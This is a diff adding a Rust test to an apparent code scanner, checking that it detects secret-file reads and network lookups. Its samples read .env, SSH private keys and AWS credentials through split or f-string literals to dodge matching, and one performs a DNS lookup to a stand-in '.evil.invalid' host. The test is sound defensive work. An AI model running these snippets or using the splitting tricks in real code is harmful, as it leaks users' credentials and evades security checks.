@@ -426,6 +426,52 @@ fn fork_bomb_scan_on_long_lines() {
     }
 }
 
+#[test]
+fn joined_literals_and_name_resolution() {
+    let py = |code: &str| {
+        facts(&InlineCode {
+            lang: Lang::Python,
+            code: code.to_string(),
+        })
+    };
+    let js = |code: &str| {
+        facts(&InlineCode {
+            lang: Lang::Js,
+            code: code.to_string(),
+        })
+    };
+    for code in [
+        "d=open('.e'+'nv').read()",
+        "d=open('~/.ss' 'h/id_rsa').read()",
+        "d=open(\"~/.aws/\" + \"credentials\").read()",
+        "d=open(f\"{'.e'}nv\").read()",
+    ] {
+        assert!(!py(code).secret_paths.is_empty(), "{code}");
+    }
+    assert!(!js("fs.readFileSync('.e' + 'nv')").secret_paths.is_empty());
+    let php = facts(&InlineCode {
+        lang: Lang::Php,
+        code: "file_get_contents('.e'.'nv');".to_string(),
+    });
+    assert!(!php.secret_paths.is_empty());
+    assert!(py("x = 'a' + 'b'").secret_paths.is_empty());
+    for code in [
+        "require('dns').resolve(x + '.evil.invalid', () => {})",
+        "const dns = require('node:dns'); dns.lookup(h, cb)",
+        "require('dns/promises').resolveTxt(h)",
+    ] {
+        assert!(js(code).network.is_some(), "{code}");
+    }
+    for code in [
+        "import socket; socket.gethostbyname(h)",
+        "import dns.resolver; dns.resolver.resolve(h)",
+        "socket.getaddrinfo(h, 80)",
+    ] {
+        assert!(py(code).network.is_some(), "{code}");
+    }
+    assert!(py("import json; print(json.dumps({}))").network.is_none());
+}
+
 /// `lang_of` rejects by the first letter, ignores case and repeated `.exe`, and knows every
 /// interpreter it lists.
 #[test]
